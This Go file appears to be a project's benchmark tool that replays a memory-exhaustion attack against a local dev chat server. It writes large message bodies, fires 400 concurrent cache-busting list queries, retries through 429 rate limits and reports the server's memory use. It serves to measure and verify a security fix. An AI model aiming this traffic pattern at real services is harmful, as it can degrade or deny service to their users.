// Command memattack replays the memory attack of issue 18 (finding 3) against a running
// chatd-dev, from its own process: one customer starts 3 conversations of 20 messages, each
// body 4,000 '<', then sends 400 list queries (limit=100&messages=20), each with a distinct
// updated_since. It reports the server's resident memory (VmRSS and its peak, VmHWM, from
// /proc/<pid>/status) before and after, and the answers it got. Writes answered 429 are retried
// after Retry-After, so the service can keep its production limits. See bench/RESULTS.md.
//
//	go build -o /tmp/chatd-dev ./cmd/chatd-dev && /tmp/chatd-dev & # note its pid
//	go run ./bench/memattack -pid <pid> [-addr http://127.0.0.1:8080] [-limit 100] [-messages 20]
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "http://127.0.0.1:8080", "chatd-dev's address")
	pid := flag.Int("pid", 0, "process id of the server whose memory to read")
	tenantID := flag.String("tenant", "demo-shop", "tenant to attack")
	queries := flag.Int("queries", 400, "list queries, each with its own updated_since")
	limit := flag.Int("limit", 100, "limit of each list query")
	messages := flag.Int("messages", 20, "messages of each list query")
	workers := flag.Int("workers", 4, "list queries in flight at once")
	flag.Parse()
	if *pid == 0 {
		fail(fmt.Errorf("-pid is required"))
	}
	c := &client{addr: *addr, tenant: *tenantID}
	if err := c.login(); err != nil {
		fail(err)
	}
	fmt.Printf("before:        %s\n", memory(*pid))
	body := strings.Repeat("<", 4000)
	for range 3 {
		var conv struct{ ID string }
		if err := c.write("/api/v1/chat/start", map[string]string{"message": body}, &conv); err != nil {
			fail(err)
		}
		for range 19 {
			if err := c.write("/api/v1/chat/"+conv.ID+"/messages", map[string]string{"body": body}, nil); err != nil {
				fail(err)
			}
		}
	}
	fmt.Printf("after writes:  %s\n", memory(*pid))

	var mu sync.Mutex
	statuses, bytesRead := map[int]int{}, 0
	next := make(chan int)
	var wg sync.WaitGroup
	for range *workers {
		wg.Go(func() {
			for i := range next {
				since := time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Millisecond)
				q := fmt.Sprintf("?limit=%d&messages=%d&updated_since=%s", *limit, *messages, url.QueryEscape(since.Format("2006-01-02T15:04:05.000Z")))
				status, n, err := c.get("/api/v1/chat/list" + q)
				if err != nil {
					fail(err)
				}
				mu.Lock()
				statuses[status]++
				bytesRead = max(bytesRead, n)
				mu.Unlock()
			}
		})
	}
	for i := range *queries {
		next <- i
	}
	close(next)
	wg.Wait()
	fmt.Printf("after lists:   %s\n", memory(*pid))
	fmt.Printf("%d list queries limit=%d&messages=%d: statuses %v, largest answer %d bytes\n", *queries, *limit, *messages, statuses, bytesRead)
}

// client calls the API as one demo customer.
type client struct {
	addr, tenant, token string
}

// login gets a customer token from chatd-dev's POST /demo/token.
func (c *client) login() error {
	resp, err := http.Post(c.addr+"/demo/token", "application/json",
		strings.NewReader(`{"tenant":"`+c.tenant+`","role":"customer","sub":"mem-attacker","name":"Mallory"}`))
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	var out struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return fmt.Errorf("POST /demo/token: %s: %w", resp.Status, err)
	}
	if out.AccessToken == "" {
		return fmt.Errorf("POST /demo/token: %s without a token", resp.Status)
	}
	c.token = out.AccessToken
	return nil
}

func (c *client) request(method, path string, body []byte) (*http.Response, error) {
	req, err := http.NewRequest(method, c.addr+path, bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	req.Header.Set("X-Tenant-ID", c.tenant)
	req.Header.Set("Content-Type", "application/json")
	return http.DefaultClient.Do(req)
}

// write POSTs in as JSON, waiting out 429s, and decodes the answer into out (when not nil).
func (c *client) write(path string, in, out any) error {
	body, _ := json.Marshal(in)
	for {
		resp, err := c.request(http.MethodPost, path, body)
		if err != nil {
			return err
		}
		raw, _ := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		switch {
		case resp.StatusCode == http.StatusTooManyRequests:
			wait, _ := strconv.Atoi(resp.Header.Get("Retry-After"))
			time.Sleep(time.Duration(max(wait, 1)) * time.Second)
		case resp.StatusCode/100 != 2:
			return fmt.Errorf("POST %s: %s %s", path, resp.Status, raw)
		case out != nil:
			return json.Unmarshal(raw, out)
		default:
			return nil
		}
	}
}

// get returns the status and size of the answer to GET path.
func (c *client) get(path string) (status, size int, err error) {
	resp, err := c.request(http.MethodGet, path, nil)
	if err != nil {
		return 0, 0, err
	}
	defer func() { _ = resp.Body.Close() }()
	n, err := io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, int(n), err
}

// memory returns the VmRSS and VmHWM lines of process pid.
func memory(pid int) string {
	raw, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		fail(err)
	}
	var out []string
	for _, line := range strings.Split(string(raw), "\n") {
		if strings.HasPrefix(line, "VmRSS:") || strings.HasPrefix(line, "VmHWM:") {
			out = append(out, strings.Join(strings.Fields(line), " "))
		}
	}
	return strings.Join(out, ", ")
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "memattack:", err)
	os.Exit(1)
}
